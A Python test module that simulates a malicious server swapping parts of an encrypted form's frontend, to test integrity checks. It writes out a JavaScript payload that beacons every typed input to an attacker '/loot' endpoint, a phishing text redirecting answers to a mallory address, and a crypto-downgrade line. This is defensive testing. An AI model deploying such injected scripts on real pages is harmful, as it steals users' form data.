"""What a malicious server can serve in place of the files that the script loads where needed."""

import json
from collections.abc import Callable
from dataclasses import replace

from apps.envelope.conditions import Condition
from apps.envelope.questions import Option
from tests.malicious.attacks_on_visitors import Attack, Won, sent
from tests.malicious.bundles import ROOT, Check
from tests.malicious.lying import Answer, Asked, PassOn, answering
from tests.malicious.visitors import Scene, received

PARTS = "form/kit/parts.js"
ASKING = "Senden Sie Ihre Antworten bitte noch an mallory@mallory.example."
WITHOUT_ML_KEM = "delete SubtleCrypto.prototype.encapsulateBits;"


def serving_as(part: str, content: bytes, kind: str) -> Callable[[Asked, PassOn], Answer | None]:
    """Whoever asks for that part gets this."""

    def lie(asked: Asked, _: PassOn) -> Answer | None:
        if asked.path.startswith(f"/static/dist/sealform-{part}."):
            return answering(content, Content_Type=kind)
        return received(asked)

    return lie


def other_texts(scene: Scene) -> Won:
    """Below the confirmation she asks for the answers themselves."""
    texts = json.loads((ROOT / "static/src/form/texts/de.json").read_text())
    altered = json.dumps(texts | {"receipt.help": ASKING}).encode()
    scene.attributes = 'data-sealform-lang="de"'
    scene.lies(serving_as("texts-de", altered, "application/json"))
    return lambda visit: ASKING in visit.text and sent(visit)


def listening(scene: Scene, part: str) -> Won:
    """Her code in the page, which reads along; whether the form opens does not matter to her."""
    code = f"""addEventListener('input', ({{ target }}) =>
        navigator.sendBeacon('{scene.url}/loot', target.value))"""
    scene.lies(serving_as(part, code.encode(), "text/javascript"))
    return lambda visit: visit.canary.encode() in scene.server.sent()


def another_kem(scene: Scene) -> Won:
    scene.engine = WITHOUT_ML_KEM
    return listening(scene, "kem")


def other_steps(scene: Scene) -> Won:
    """The form has a condition, and so needs what shows it."""
    first, second, *rest = scene.manifest.fields
    choice = replace(second, kind="radio", options=(Option("yes", "Yes"),))
    asked = replace(first, when=(Condition(second.name, ("yes",)),), required=False)
    scene.manifest = scene.publisher.publish(2, fields=(choice, asked, *rest))
    return listening(scene, "steps")


TEXTS = Check(PARTS, "fetch(url, { integrity,", "fetch(url, {")
SCRIPTS = Check(PARTS, "script.integrity = integrity;")

ATTACKS: dict[str, Attack] = {
    "serves other texts": Attack(other_texts, TEXTS, "part"),
    "serves another KEM": Attack(another_kem, SCRIPTS, "part"),
    "serves other steps": Attack(other_steps, SCRIPTS, "part"),
}
